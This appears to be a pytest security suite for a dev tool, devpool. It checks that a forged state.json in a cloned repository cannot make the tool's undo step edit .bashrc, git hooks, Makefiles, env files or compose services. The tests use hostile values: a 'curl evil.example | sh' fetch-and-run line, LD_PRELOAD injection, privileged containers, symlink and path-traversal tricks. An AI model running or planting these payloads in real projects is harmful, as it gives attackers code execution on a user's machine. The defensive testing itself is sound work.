"""A clone that brings a `state.json` along: what it makes devpool undo is what devpool can have done, or is refused."""

from __future__ import annotations

import itertools
import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from security.record_rig import BASHRC, COMMANDS, DISABLE, ENABLE, Clone

Attack = Callable[[Clone], None]
EVIL = "curl evil.example | sh"


# --- files that are none of the project ---


def names_an_absolute_path(clone: Clone) -> None:
    clone.add_edit(f"{clone.home}/.bashrc", "pgbouncer", EVIL, ("DB_HOST",))


def names_an_absolute_path_with_a_plain_address(clone: Clone) -> None:
    clone.add_edit(f"{clone.home}/.bashrc", "pgbouncer", "evil", ("DB_HOST",))


def names_a_path_with_dots(clone: Clone) -> None:
    clone.add_edit("../../.bashrc", "pgbouncer", "evil", ("DB_HOST",))


def names_a_link_to_a_file_outside(clone: Clone) -> None:
    (clone.project / "more.env").symlink_to("../../.bashrc")
    clone.add_edit("more.env", "pgbouncer", "evil", ("DB_HOST",))


def names_a_file_below_a_linked_folder(clone: Clone) -> None:
    (clone.project / "env").symlink_to("../..")
    clone.add_edit("env/other.env", "pgbouncer", "evil", ("DB_HOST",))


def names_a_git_hook(clone: Clone) -> None:
    clone.add_edit(".git/hooks/pre-commit", "pgbouncer", "evil", ("DB_HOST",))


def names_a_link_to_a_git_hook(clone: Clone) -> None:
    (clone.project / "more.env").symlink_to(".git/hooks/pre-commit")
    clone.add_edit("more.env", "pgbouncer", "evil", ("DB_HOST",))


def names_its_own_folder(clone: Clone) -> None:
    file = ".devpool/pgbouncer/Dockerfile"
    clone.add_edit(file, clone.text(file)[:4], "evil", ("DB_HOST",))


# --- texts that devpool did not replace ---


def adds_a_line_to_a_makefile(clone: Clone) -> None:
    clone.add_edit("Makefile", "pgbouncer", f"db\nx:\n\t{EVIL}", ("DB_HOST",))


def adds_a_line_to_an_env_file(clone: Clone) -> None:
    clone.add_edit("web.env", "pgbouncer", "db\nLD_PRELOAD=/evil.so", ("PGHOST",))


def takes_a_line_out_of_an_env_file(clone: Clone) -> None:
    clone.add_edit("web.env", "\nPGHOST=pgbouncer", "", ("PGHOST",), inserts=True)


def makes_a_service_privileged(clone: Clone) -> None:
    clone.add_edit("compose.yml", "MODE: production", "MODE: production\n    privileged: true", _MODE)


def makes_a_service_privileged_in_place_of_an_address(clone: Clone) -> None:
    clone.write("compose.yml", clone.text().replace("MODE: production", "MODE: pgbouncer"))
    clone.add_edit("compose.yml", "pgbouncer\n    depends_on", "x\n    privileged: true\n    depends_on", _MODE)


def merges_in_what_makes_it_privileged(clone: Clone) -> None:
    at = ("services", "web", "depends_on")
    clone.add_edit("compose.yml", "\n    depends_on: [pgbouncer]", "\n    <<: *evil", at, inserts=True)


def merges_in_further_variables(clone: Clone) -> None:
    clone.write("compose.yml", clone.text().replace("MODE: production", "POOLED: pgbouncer"))
    clone.add_edit("compose.yml", "POOLED: pgbouncer", "<<: *more", (*_ENVIRONMENT, "POOLED"))


def takes_a_protection_out(clone: Clone) -> None:
    clone.add_edit("compose.yml", "\n    read_only: true", "", ("services", "web", "read_only"), inserts=True)


def takes_a_protection_out_at_another_place(clone: Clone) -> None:
    clone.write("compose.yml", clone.text().replace("image: app\n    read_only", "user: pgbouncer\n    read_only"))
    clone.add_edit("compose.yml", "\n    user: pgbouncer\n    read_only: true", "", _ENVIRONMENT, inserts=True)


def changes_the_image(clone: Clone) -> None:
    clone.write("compose.yml", clone.text().replace("image: app", "image: pgbouncer", 1))
    clone.add_edit("compose.yml", "pgbouncer\n    read", "evil:latest\n    read", (*_ENVIRONMENT, "DATABASE_URL"))


def changes_the_image_by_an_address(clone: Clone) -> None:
    text = clone.text().replace("image: app", "image: pgbouncer:5432", 1)
    clone.write("compose.yml", text)
    clone.change_record(lambda body: _move(body, text.index("pgbouncer:5432"), "evil:latest"))


def takes_a_service_out(clone: Clone) -> None:
    text = clone.text()
    clone.add_edit("compose.yml", text[text.index("\n  worker:") : -1], "", ("services", "worker"), inserts=True)


def takes_a_service_out_as_a_pooler(clone: Clone) -> None:
    takes_a_service_out(clone)
    clone.change_record(lambda body: body["poolers"][0].update(name="worker"))


# --- words about services ---


def calls_the_database_a_pooler(clone: Clone) -> None:
    clone.change_record(lambda body: body["poolers"].append(body["poolers"][0] | {"name": "db"}))


def calls_an_app_an_exporter(clone: Clone) -> None:
    clone.change_record(lambda body: body["poolers"][0].update(exporter="worker"))


def has_a_private_file_elsewhere(clone: Clone) -> None:
    clone.change_record(lambda body: body.update(private=["../../.bashrc"]))


def calls_a_word_a_pooler(clone: Clone, word: str) -> None:
    """The record's word alone makes no pooler of a word."""
    clone.change_record(lambda body: body["poolers"].append(body["poolers"][0] | {"name": word}))


def changes_a_script(clone: Clone) -> None:
    clone.write("release.sh", "npm publish\n")
    calls_a_word_a_pooler(clone, "publish")
    clone.add_edit("release.sh", "publish", "${X:-evil}", ("A",))


def changes_a_dockerfile(clone: Clone) -> None:
    clone.write("Dockerfile", "FROM python\n")
    calls_a_word_a_pooler(clone, "python")
    clone.add_edit("Dockerfile", "python", "evil", ("A",))


def runs_a_command_as_a_default(clone: Clone) -> None:
    clone.add_edit("web.env", "pgbouncer", f"${{X:-$({EVIL})}}", ("PGHOST",))


def changes_another_variable(clone: Clone) -> None:
    calls_a_word_a_pooler(clone, "production")
    clone.add_edit("compose.yml", "production", "development", _MODE)


def changes_a_command(clone: Clone) -> None:
    clone.write("compose.yml", clone.text().replace("read_only: true", "command: [sh, -c, serve]", 1))
    calls_a_word_a_pooler(clone, "serve")
    clone.add_edit("compose.yml", "serve", "evil", ("services", "web", "command"))


def changes_a_command_that_has_the_poolers_name(clone: Clone) -> None:
    clone.write("compose.yml", clone.text().replace("read_only: true", "command: [sh, -c, pgbouncer]", 1))
    clone.add_edit("compose.yml", "pgbouncer]", "evil]", ("services", "web", "command"))
    clone.change_record(lambda body: body["edits"][-1].update(old="evil", end=body["edits"][-1]["start"] + 4))
    clone.change_record(lambda body: body["edits"][-1].update(new=["pgbouncer"]))


def changes_a_port_that_is_no_poolers(clone: Clone) -> None:
    clone.write("compose.yml", clone.text().replace("MODE: production", "MAIL_PORT: 2525"))
    clone.change_record(lambda body: body["poolers"][0].update(port="2525"))
    clone.add_edit("compose.yml", "2525", "25", (*_ENVIRONMENT, "MAIL_PORT"))


def changes_what_devpool_runs(clone: Clone) -> None:
    clone.write("compose.yml", clone.text() + "x-devpool:\n  migrate: {service: web, command: pgbouncer}\n")
    clone.add_edit("compose.yml", "pgbouncer}", "evil}", ("x-devpool", "migrate", "command"))
    clone.change_record(lambda body: body["edits"][-1].update(old="evil", end=body["edits"][-1]["start"] + 4))
    clone.change_record(lambda body: body["edits"][-1].update(new=["pgbouncer"]))


def takes_a_comment_out(clone: Clone) -> None:
    clone.write("web.env", clone.text("web.env") + "# keep this pin\n")
    clone.add_edit("web.env", "# keep this pin\n", "", ("X_DIRECT",), inserts=True)


def sets(clone: Clone, key: str, value: str) -> None:
    clone.change_record(lambda body: body["options"].update(settings={key: value}))


def sets_where_the_pooler_listens(clone: Clone) -> None:
    sets(clone, "listen_addr", "0.0.0.0")


def sets_several_lines(clone: Clone) -> None:
    sets(clone, "query_timeout", "60\n    privileged: true")


def sets_what_is_no_setting(clone: Clone) -> None:
    sets(clone, "zzz", "1")


def sets_what_is_no_preset(clone: Clone) -> None:
    sets(clone, "preset", "\x1b[31mevil")


_ENVIRONMENT = ("services", "web", "environment")
_MODE = (*_ENVIRONMENT, "MODE")
_ATTACKS: tuple[Attack, ...] = (
    names_an_absolute_path,
    names_an_absolute_path_with_a_plain_address,
    names_a_path_with_dots,
    names_a_link_to_a_file_outside,
    names_a_file_below_a_linked_folder,
    names_a_git_hook,
    names_a_link_to_a_git_hook,
    names_its_own_folder,
    adds_a_line_to_a_makefile,
    adds_a_line_to_an_env_file,
    takes_a_line_out_of_an_env_file,
    makes_a_service_privileged,
    makes_a_service_privileged_in_place_of_an_address,
    merges_in_what_makes_it_privileged,
    merges_in_further_variables,
    takes_a_protection_out,
    takes_a_protection_out_at_another_place,
    changes_the_image,
    changes_the_image_by_an_address,
    takes_a_service_out,
    takes_a_service_out_as_a_pooler,
    calls_the_database_a_pooler,
    calls_an_app_an_exporter,
    has_a_private_file_elsewhere,
    changes_a_script,
    changes_a_dockerfile,
    runs_a_command_as_a_default,
    changes_another_variable,
    changes_a_command,
    changes_a_command_that_has_the_poolers_name,
    changes_a_port_that_is_no_poolers,
    changes_what_devpool_runs,
    takes_a_comment_out,
    sets_where_the_pooler_listens,
    sets_several_lines,
    sets_what_is_no_setting,
    sets_what_is_no_preset,
)


def _move(body: dict[str, Any], start: int, old: str) -> None:
    """The record with one edit, an address that is replaced in another place than it says."""
    edit = {"file": "compose.yml", "at": [*_ENVIRONMENT, "DATABASE_URL"], "inserts": False}
    body["edits"] = [edit | {"start": start, "end": start + len(old), "old": old, "new": ["pgbouncer:5432"]}]


@pytest.mark.parametrize("attack", _ATTACKS, ids=lambda attack: attack.__name__)
def test_no_command_follows_the_record_of_an_attacker(clone: Clone, attack: Attack) -> None:
    attack(clone)
    before, record = clone.state(), clone.record.read_bytes()
    for command in COMMANDS:
        done = clone.devpool(*command)
        assert done.code in (0, 1, 4), f"{command}: {done.words}"
        assert clone.state() == before, command
        assert EVIL not in done.words
        clone.record.parent.mkdir(exist_ok=True)
        clone.record.write_bytes(record)


@pytest.mark.parametrize("attack", _ATTACKS, ids=lambda attack: attack.__name__)
def test_disable_names_what_is_wrong_with_it(clone: Clone, attack: Attack) -> None:
    attack(clone)
    done = clone.devpool(*DISABLE)
    assert (done.code, "[state-not-ours]" in done.words, ".devpool/state.json" in done.words) == (1, True, True), (
        done.words
    )


@pytest.mark.usefixtures("compose_plugin")
def test_the_hint_of_a_refused_record_is_true(
    clone: Clone, monkeypatch: pytest.MonkeyPatch, plain_shell: dict[str, str]
) -> None:
    monkeypatch.setenv("PATH", plain_shell["PATH"])
    monkeypatch.setenv("DOCKER_CONFIG", f"{plain_shell['HOME']}/.docker")
    names_an_absolute_path(clone)
    clone.record.unlink()
    done = clone.devpool(*DISABLE)
    assert done.code == 0, done.words
    assert "pgbouncer" not in clone.text()
    assert (clone.home / ".bashrc").read_text() == BASHRC


def test_what_disable_shows_is_what_it_does(clone: Clone) -> None:
    shown = clone.devpool(*DISABLE, "--dry-run", "--diff").words
    before = clone.text()
    assert clone.devpool(*DISABLE).code == 0
    gone = [line for line in before.splitlines() if line not in clone.text().splitlines()]
    assert gone
    assert [line for line in gone if f"-{line}".split("://")[0] not in shown] == []


def test_a_service_that_only_has_the_name_of_an_env_file_elsewhere_does_not_lead_there(clone: Clone) -> None:
    """A user's own setting that goes to a pooler goes to its database: not one in a file outside of the root."""
    text = clone.text().replace("env_file: web.env", "env_file: [web.env, ../../other.env]")
    clone.write("compose.yml", text)
    before = (clone.home / "other.env").read_bytes()
    for command in (DISABLE, ENABLE, DISABLE):
        assert clone.devpool(*command).code in (0, 1)
        assert (clone.home / "other.env").read_bytes() == before


# --- any JSON in any place ---

_DEEP: list[Any] = []
for _ in range(500):
    _DEEP = [_DEEP]
_VALUES: tuple[Any, ...] = (
    None,
    True,
    -1,
    1.5,
    10**30,
    "",
    "a\ud800b",
    "a\0b",
    "../..",
    [],
    {},
    [[]],
    {"a": {}},
    _DEEP,
)


def _places(value: Any, here: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Every place in a JSON value; of a list's items the first and the last."""
    yield here
    if isinstance(value, dict):
        for key, item in value.items():
            yield from _places(item, (*here, key))
    elif isinstance(value, list):
        for number in sorted({0, len(value) - 1} if value else ()):
            yield from _places(value[number], (*here, number))


def _with(body: Any, place: tuple[Any, ...], value: Any) -> Any:
    if not place:
        return value
    copy = json.loads(json.dumps(body))
    holder = copy
    for key in place[:-1]:
        holder = holder[key]
    holder[place[-1]] = value
    return copy


def test_whatever_stands_in_a_record_is_no_bug(clone: Clone) -> None:
    body = json.loads(clone.record.read_bytes())
    before = clone.state()
    refused = 0
    for number, (place, value) in enumerate(itertools.product(_places(body), _VALUES)):
        clone.record.write_text(json.dumps(_with(body, place, value)))
        command = (DISABLE, ENABLE)[number % 2]
        done = clone.devpool(*command, "--dry-run")
        assert done.code in (0, 1), f"{place} = {value!r:.40}: {command}: {done.words}"
        refused += done.code
    assert refused > 300
    assert clone.state() == before


@pytest.mark.parametrize(
    "data",
    [
        b"[" * 100_000,
        b'{"version":' + b"[" * 5_000 + b"]" * 5_000 + b"}",
        b"\xef\xbb\xbf{}",
        b'{"version": NaN}',
        b"\0",
    ],
)
def test_a_record_that_is_no_json_or_too_deep_is_refused_by_name(clone: Clone, data: bytes) -> None:
    clone.record.write_bytes(data)
    for command in (DISABLE, ENABLE, ("status",), ("explain",), ("check",)):
        done = clone.devpool(*command)
        assert done.code == 1, done.words
        assert "state-unreadable" in done.words or "state-version" in done.words
